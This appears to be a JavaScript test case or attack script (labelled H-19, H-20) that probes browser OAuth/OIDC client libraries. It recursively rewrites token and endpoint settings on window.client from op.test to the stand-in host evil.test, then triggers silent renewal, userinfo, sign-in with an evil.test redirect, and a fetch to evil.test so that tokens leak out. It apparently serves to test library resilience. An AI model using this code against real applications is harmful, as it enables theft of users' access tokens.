// H-19, H-20: the library's own settings turned towards the attacker, then whatever makes it renew.

for (let round = 0; round < 40 && !window.client; round += 1) await wait(25);
await wait(300);
const known = new Set();
const turn = (value, depth = 0) => {
  if ((typeof value !== "object" && typeof value !== "function") || value === null || depth > 8 || known.has(value) || known.size > 20_000) return;
  known.add(value);
  for (const name of ownKeys(value)) {
    try {
      const member = value[name];
      if (typeof member === "string" && /token|endpoint/i.test(String(name)) && member.startsWith("https://op.test/")) value[name] = member.replace("https://op.test/", "https://evil.test/");
      else turn(member, depth + 1);
    } catch {
      // Not to be had.
    }
  }
};
turn(window.client);
for (const [name, ...given] of [["signinSilent"], ["getTokenSilently", { cacheMode: "off" }], ["updateToken", -1], ["renewTokens"], ["userInfo"], ["getUserInfo"]]) {
  const endpoints = window.client?.endpoints;
  if (endpoints) endpoints.token = () => "https://evil.test/token";
  if (typeof window.client?.[name] === "function") await Promise.race([Promise.resolve(window.client[name](...given)).catch(() => {}), wait(500)]);
}
for (const change of [{ redirectUri: "https://evil.test/" }, { resources: ["https://evil.test/"] }]) {
  await Promise.resolve(window.client?.signIn?.(change)).catch(() => {});
  await Promise.resolve(window.client?.fetch?.("https://evil.test/turned", change)).catch(() => {});
}
